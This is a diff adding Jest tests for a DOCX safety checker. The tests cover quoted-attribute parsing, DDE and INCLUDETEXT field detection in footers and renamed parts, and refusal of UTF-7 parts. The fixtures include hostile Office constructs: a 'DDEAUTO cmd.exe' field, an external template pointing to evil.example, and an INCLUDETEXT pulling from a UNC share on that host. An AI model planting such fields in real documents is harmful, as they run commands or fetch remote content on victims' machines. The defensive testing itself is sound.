@@ -17,6 +17,18 @@ describe('relationships', () => {
       { Id: 'rId2', Type: type('styles'), Target: 'styles.xml' },
     ]);
   });
+
+  it('reads a > inside a quoted value as part of it (XML allows it), not as the element’s end', () => {
+    const xml = `<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm#>" Type="${type('attachedTemplate')}" TargetMode="External"/></Relationships>`;
+    expect(relationships(xml)).toEqual([
+      {
+        Id: 'rId1',
+        Target: 'https://evil.example/t.dotm#>',
+        Type: type('attachedTemplate'),
+        TargetMode: 'External',
+      },
+    ]);
+  });
 });
 
 describe('activeRelationship', () => {
@@ -93,5 +105,58 @@ describe('checkDocx', () => {
     await expect(
       check(await docxWith(docx(), [{ name: 'word/media/big.bin', data: inflated }])),
     ).rejects.toThrow(/compression ratio/);
+  });
+
+  const field = (instructions: string) =>
+    `<w:p><w:fldSimple w:instr="${instructions}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
+  const story = (name: string, body: string) => ({
+    name,
+    data: Buffer.from(
+      `<?xml version="1.0" encoding="UTF-8"?><w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:ftr>`,
+    ),
+  });
+
+  it('reads the fields of every XML part, not only the document: a DDE field in a footer is refused', async () => {
+    await expect(
+      check(await docxWith(docx(), [story('word/footer1.xml', field('PAGE'))])),
+    ).resolves.toBeUndefined();
+    await expect(
+      check(await docxWith(docx(), [story('word/footer1.xml', field('DDEAUTO cmd.exe x'))])),
+    ).rejects.toThrow(/DDEAUTO/);
+  });
+
+  it('reads a part by its content type, whatever its name, and leaves other parts unread', async () => {
+    const entries = await readZip(docx());
+    const types = entries.find((entry) => entry.name === '[Content_Types].xml');
+    const renamed = (types?.data?.toString('utf8') ?? '').replace(
+      '</Types>',
+      '<Override PartName="/word/story.bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/><Default Extension="png" ContentType="image/png"/></Types>',
+    );
+    const hidden = await docxWith(docx(), [
+      { name: '[Content_Types].xml', data: Buffer.from(renamed) },
+      story('word/story.bin', field(String.raw`INCLUDETEXT &quot;\\evil.example\s\a&quot;`)),
+    ]);
+    await expect(check(hidden)).rejects.toThrow(/INCLUDETEXT/);
+    // An image's bytes may look like anything, markup included: it is not read as XML.
+    const image = {
+      name: 'word/media/image1.png',
+      data: Buffer.from('<!DOCTYPE <w:instrText>DDEAUTO'),
+    };
+    await expect(
+      check(
+        await docxWith(docx(), [
+          { name: '[Content_Types].xml', data: Buffer.from(renamed) },
+          image,
+        ]),
+      ),
+    ).resolves.toBeUndefined();
+  });
+
+  it('refuses a part in an encoding Office does not write (UTF-7 could hide markup)', async () => {
+    const utf7 = {
+      name: 'word/footer1.xml',
+      data: Buffer.from('<?xml version="1.0" encoding="UTF-7"?><w:ftr/>'),
+    };
+    await expect(check(await docxWith(docx(), [utf7]))).rejects.toThrow(/UTF-7/);
   });
 });
